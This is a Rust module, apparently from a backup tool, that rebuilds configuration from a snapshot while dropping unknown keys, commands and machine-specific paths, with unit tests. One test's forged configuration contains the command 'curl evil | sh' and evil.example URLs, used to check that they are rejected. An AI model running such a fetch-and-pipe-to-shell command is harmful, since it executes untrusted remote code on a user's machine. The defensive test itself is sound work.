//! What a new machine takes over of the configuration that a snapshot keeps.

use super::record::place_of;
use super::schema::{KEYS, Key, Scope};
use super::value::{Kind, Raw};
use serde_json::Value as Json;

/// A snapshot's configuration, looked through.
#[derive(Clone, PartialEq, Eq, Debug, Default)]
pub struct Rebuilt {
    /// The settings that are taken over, in the form of a record.
    pub record: Json,
    /// The ids of those among them that may be otherwise on this machine.
    pub check: Vec<&'static str>,
    /// What is not taken over, by id: it belongs to the machine that is gone.
    pub left_out: Vec<(&'static str, Json)>,
}

/// Looks a recorded configuration through. Whoever can write the backup can write a snapshot, so
/// only known settings with values that can be read are taken over, and never a command.
pub fn rebuild(recorded: &Json) -> Rebuilt {
    let mut rebuilt = Rebuilt {
        record: Json::Object(serde_json::Map::new()),
        ..Rebuilt::default()
    };
    for key in KEYS {
        let Some(value) = recorded.pointer(&format!("/{}", key.id.replace('.', "/"))) else {
            continue;
        };
        if key.scope == Scope::OneRun || key.kind == Kind::Hidden || !can_be_read(key, value) {
            continue;
        }
        if key.kind == Kind::Path && key.id != "library.path" {
            rebuilt.left_out.push((key.id, value.clone()));
            continue;
        }
        if let Some(table) = place_of(key, &mut rebuilt.record) {
            table.insert(key.name().to_owned(), value.clone());
        }
        if is_of_a_machine(key) {
            rebuilt.check.push(key.id);
        }
    }
    rebuilt
}

fn is_of_a_machine(key: &Key) -> bool {
    let where_to = ["library.path", "sync.to", "sync.endpoint", "endpoint"];
    where_to.contains(&key.id) || matches!(key.name(), "profile" | "role_arn")
}

fn can_be_read(key: &Key, value: &Json) -> bool {
    let raw = match value {
        Json::String(text) => Raw::Text(text.clone()),
        Json::Bool(value) => Raw::Boolean(*value),
        Json::Number(number) => match number.as_i64() {
            Some(number) => Raw::Integer(number),
            None => return false,
        },
        Json::Array(items) => {
            let texts = items.iter().map(|item| item.as_str().map(str::to_owned));
            match texts.collect() {
                Some(list) => Raw::List(list),
                None => return false,
            }
        }
        Json::Null | Json::Object(_) => return false,
    };
    key.kind.read(&raw).is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn a_new_machine_takes_over_what_is_not_the_old_one_s() {
        let recorded = json!({
            "endpoint": "https://s3.example.org",
            "state_dir": "/var/lib/tidelock",
            "transfers": 8,
            "library": {"path": "/home/ada/Pictures", "exclude": ["*.tmp"]},
            "sync": {"to": "s3://photos/library", "profile": "photos"},
            "backup": {"to": "s3://vault/library", "retention": "90d", "keep": {"last": 3}},
        });
        let rebuilt = rebuild(&recorded);
        let mut expected = recorded.clone();
        expected.as_object_mut().unwrap().remove("state_dir");
        assert_eq!(rebuilt.record, expected);
        assert_eq!(
            rebuilt.left_out,
            [("state_dir", json!("/var/lib/tidelock"))]
        );
        let check = ["endpoint", "library.path", "sync.to", "sync.profile"];
        assert_eq!(rebuilt.check, check);
    }

    #[test]
    fn a_forged_configuration_brings_no_command_and_nothing_unknown() {
        let forged = json!({
            "notify": {"command": "curl evil | sh", "url": "https://evil.example"},
            "yes": true,
            "without_backup": true,
            "what": "ever",
            "transfers": "many",
            "library": {"path": 7, "exclude": [1]},
            "backup": "s3://evil/library",
        });
        let rebuilt = rebuild(&forged);
        assert_eq!(rebuilt.record, json!({}));
        assert!(rebuilt.check.is_empty() && rebuilt.left_out.is_empty());
        assert_eq!(rebuild(&Json::Null).record, json!({}));
    }
}
